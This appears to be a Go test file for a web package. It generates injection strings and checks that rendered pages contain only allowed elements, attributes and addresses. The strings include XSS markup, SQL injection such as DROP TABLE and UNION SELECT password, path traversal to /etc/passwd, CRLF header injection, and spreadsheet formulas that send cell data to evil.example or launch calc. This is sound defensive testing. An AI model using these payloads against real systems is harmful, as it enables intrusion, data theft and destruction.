package web

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"
)

// hostileTexts makes n different texts that somebody might write where a name
// belongs. What markup there is bears the attribute data-evil, which no page
// of ours has: it shows wherever a text became markup.
func hostileTexts(n int) []string {
	rng := rand.New(rand.NewPCG(3, 14))
	seen, out := map[string]bool{}, []string{}
	for i := 0; len(out) < n; i++ {
		text := fmt.Sprintf(hostileForms[i%len(hostileForms)], i)
		switch round := i / len(hostileForms); {
		case round == 1 && i%40 == 0:
			text = strings.Repeat(text, 10_000/len(text)+1)
		case round > 1: // two of them, one in the wrapping of another
			other := fmt.Sprintf(hostileForms[rng.IntN(len(hostileForms))], i)
			text = fmt.Sprintf(hostileWraps[rng.IntN(len(hostileWraps))], text, other)
		}
		if !seen[text] {
			seen[text] = true
			out = append(out, text)
		}
	}
	return out
}

var hostileWraps = []string{"%s%s", "%s %s", `"%s"%s`, `'%s'><%s`, "\u202e%s\u202c%s", "</script>%s%s", "-->%s<!--%s", "%s\r\n%s", "\t%s\t%s", "%[2]s</td>%[1]s", "\uFEFF%s%s",
	"\\\"%s\\%s", "]]>%s%s", "`%s`${%s}", "%s;%s", "%s|%s", "</title>%s</textarea>%s", "%s\u2028%s", "</option></select>%s%s", "%s\x7f%s"}

// hostileForms are the kinds, each with a number so that no two are the same.
var hostileForms = []string{
	`<script data-evil>alert(%d)</script>`, `</script><script data-evil>alert(%d)</script>`, `<img src=x data-evil onerror=alert(%d)>`, `<svg data-evil onload=alert(%d)>`,
	`"><img src=x data-evil onerror=alert(%d)>`, `'><svg data-evil onload='alert(%d)'>`, `" onmouseover="alert(%d)" data-evil="`, `' onfocus='alert(%d)' autofocus data-evil='`,
	` data-evil onclick=alert(%d) `, `</title><script data-evil>alert(%d)</script>`, `</textarea><iframe data-evil src=javascript:alert(%d)>`, `<!--<script data-evil>%d`,
	`--><b data-evil>%d</b>`, `<style data-evil>*{display:none}/*%d*/</style>`, `<a data-evil href="javascript:alert(%d)">x</a>`, `javascript:alert(%d)`, `JaVaScRiPt:alert(%d)//`,
	"java\nscript:alert(%d)", `data:text/html,<script data-evil>alert(%d)</script>`, `//evil.example/%d`, `https://evil.example/%d`, `\\evil.example\%d`, `vbscript:msgbox(%d)`,
	`<form data-evil action=//evil.example/%d><button>`, `<meta data-evil http-equiv=refresh content="0;url=//evil.example/%d">`, `<base data-evil href=//evil.example/%d>`,
	`<math data-evil><mtext><img src onerror=alert(%d)>`, `<noscript><p title="</noscript><img data-evil src=x onerror=alert(%d)>">`, `&lt;script data-evil&gt;alert(%d)&lt;/script&gt;`,
	`&#60;img data-evil src=x onerror=alert(%d)&#62;`, `{{.CSRF}} %d`, `{{template "layout" .}} %d`, `${7*%d}`, `#{7*%d}`, `<%%= %d %%>`, `{count} {name} {%d}`, `{"a":"%d"}`, `[%d,null]`,
	`' OR 1=1 -- %d`, `'; DROP TABLE calls; -- %d`, `" OR ""="%d`, `\'; DELETE FROM accounts; # %d`, `' UNION SELECT password FROM accounts -- %d`, `1); COPY calls TO '/tmp/evil%d`,
	`read_csv('/etc/passwd') %d`, `%%' ESCAPE '!' %d`, `_%%%d`, `agent == "x" or true %d`, `) or (1 == %d`, `$1 ? :name %d`,
	"=1+%d", "=cmd|' /C calc'!A%d", "+%d+1", "-%d+1", "@SUM(A1:A%d)", "＝HYPERLINK(\"http://evil.example/%d\")", "＋%d", "－%d", "＠%d", "\t=%d", "\r=%d", "\n=%d", "\u200b=%d", "\u00a0=%d", "'=%d",
	`"=%d"`, ";=%d", ",=1+%d", "|=%d", "−%d", "%d\n=1+1", "=IMPORTXML(CONCAT(\"http://evil.example/\",A%d))", `=HYPERLINK("http://evil.example/?"&A%d,"x")`, "0x%d", "00%d", "1e%d",
	"x%d\r\nBcc: evil@evil.example", "x%d\r\nSet-Cookie: evil=1", "x%d\nSubject: evil\n\n<b data-evil>", "x%d%%0d%%0aLocation: //evil.example", "../../../../etc/passwd%d", `..\..\windows\system.ini%d`, "%%2e%%2e/%d",
	"./%d", "a/b/%d", "?%d=1", "#%d", "a?b#c&d=%d;e", "%%zz%d", "C:\\%d", "con%d", "\u202e%d txt.exe", "\u2066\u2067%d\u2069", "سارا %d", "علی\u200cرضا <b data-evil>%d</b>", "שלום %d", "\u0600%d", "e\u0301\u0302\u0303%d",
	"%d\u0000null", "NULL %d", "null", "nil", "undefined", "NaN", "None", "-", "N/A", "true", "0", "-0", "Infinity", "NaN%d", "\u0007%d", "\u001b[31m%d", "\x7f%d", "\u0085%d", "\ufeff%d", "\ufffe%d", "😀%d", "👩‍👩‍👧%d", "𝒳%d",
	"İıſ%d", "ß%d", "\u2028%d", "constructor%d", "__proto__", "prototype", "toString", "ï»¿%d", "<%d", ">%d", "&%d", "\"%d", "'%d", "`%d", "\\%d", "%%s%%n%%d %d", "%d%%",
}

func init() { // those without a number stand for themselves
	for i, form := range hostileForms {
		if !strings.Contains(strings.ReplaceAll(form, "%%", ""), "%d") {
			hostileForms[i] = strings.ReplaceAll(form, "%", "%%") + "%.0d"
		}
	}
}

// ourElements and ourAttributes are all that our pages are made of; nothing of
// them runs or styles by itself.
var ourElements = wordSet(`html head meta title link script body div p section a span header nav main h1 h2 h3 h4 ul ol li dl dt dd table caption colgroup col thead tbody tfoot tr th td form input label
	button select option optgroup textarea details summary bdi svg use path rect circle line polyline polygon g text hr strong small code pre kbd mark figure figcaption cp-chart fieldset legend datalist
	article progress noscript dialog template audio time output em b sub sup tspan`)

var ourAttributes = wordSet(`abbr accept action align aria-busy aria-controls aria-current aria-describedby aria-disabled aria-expanded aria-hidden aria-invalid aria-label aria-labelledby aria-live
	aria-pressed aria-sort autocomplete autofocus border cellpadding cellspacing charset checked class colspan content cx cy d data-close data-confirm data-copy data-done data-keys data-auto data-manual data-name data-keys-switch data-label data-quiet data-rows data-unit
	data-n data-no-boost data-ok data-open data-text data-theme data-theme-set datetime dir disabled download enctype focusable for formaction formmethod formnovalidate height hidden href http-equiv
	hx-get hx-include hx-indicator hx-post hx-push-url hx-select hx-swap hx-sync hx-target hx-trigger hx-boost id inputmode lang label list max maxlength method min minlength multiple name novalidate open pattern
	placeholder points popover popovertarget preload preserveaspectratio r readonly rel required role rowspan rows cols rx ry scope selected size spellcheck src step tabindex target title type value
	viewbox width x x1 x2 y y1 y2 text-anchor transform controls`)

// addresses are the attributes that lead somewhere.
var addresses = wordSet("href src action formaction hx-get hx-post xlink:href poster")

func wordSet(text string) map[string]bool {
	out := map[string]bool{}
	for _, w := range strings.Fields(text) {
		out[w] = true
	}
	return out
}

// inert checks that a page is of our making alone: its elements, attributes
// and addresses, and that its scripts are our files or sound data.
func inert(t *testing.T, what, body string) *html.Node {
	t.Helper()
	doc, err := html.ParseWithOptions(strings.NewReader(body), html.ParseOptionEnableScripting(false)) // what stands in noscript is read too
	require.NoError(t, err, what)
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			if n.Type == html.CommentNode {
				t.Errorf("%s: a comment: %q", what, n.Data)
			}
			continue
		}
		if !ourElements[n.Data] {
			t.Errorf("%s: element %s in %s", what, n.Data, placeOf(n))
		}
		for _, a := range n.Attr {
			name := strings.ToLower(a.Key)
			if !ourAttributes[name] {
				t.Errorf("%s: attribute %s=%q of %s", what, a.Key, a.Val, placeOf(n))
			}
			if addresses[name] && !ownAddress(n, a) {
				t.Errorf("%s: %s leads to %q in %s", what, name, a.Val, placeOf(n))
			}
			if name == "content" && strings.ContainsAny(a.Val, ";<") {
				t.Errorf("%s: %q of %s", what, a.Val, placeOf(n)) // a refresh that leads elsewhere
			}
		}
		if n.Data == "script" {
			soundScript(t, what, n)
		}
	}
	return doc
}

// placeOf names the elements around one.
func placeOf(n *html.Node) string {
	out := ""
	for ; n != nil && n.Type == html.ElementNode; n = n.Parent {
		class := ""
		for _, a := range n.Attr {
			if a.Key == "class" || a.Key == "id" {
				class += "." + a.Val
			}
		}
		out = "<" + n.Data + class + ">" + out
	}
	return out
}

// ownAddress tells an address of our own pages. Those of our words alone lead
// out: the icon that keeps browsers from asking for one.
func ownAddress(n *html.Node, a html.Attribute) bool {
	if n.Data == "link" && a.Val == "data:," {
		return true
	}
	u, err := url.Parse(a.Val)
	return err == nil && u.Scheme == "" && u.Host == "" && u.Opaque == "" && !strings.HasPrefix(a.Val, "//") && !strings.HasPrefix(a.Val, `/\`) && !strings.ContainsAny(a.Val, "\r\n\t\\")
}

func soundScript(t *testing.T, what string, n *html.Node) {
	t.Helper()
	attrs := map[string]string{}
	for _, a := range n.Attr {
		attrs[a.Key] = a.Val
	}
	if attrs["type"] != "application/json" {
		require.True(t, strings.HasPrefix(attrs["src"], "/assets/") && n.FirstChild == nil, "%s: a script of %v", what, attrs)
		return
	}
	require.NotNil(t, n.FirstChild, what)
	text := n.FirstChild.Data
	require.NotContains(t, text, "<", "%s: could end its element", what)
	d := json.NewDecoder(bytes.NewReader([]byte(text)))
	var v any
	require.NoError(t, d.Decode(&v), "%s: %s", what, text)
	require.False(t, d.More(), what)
}
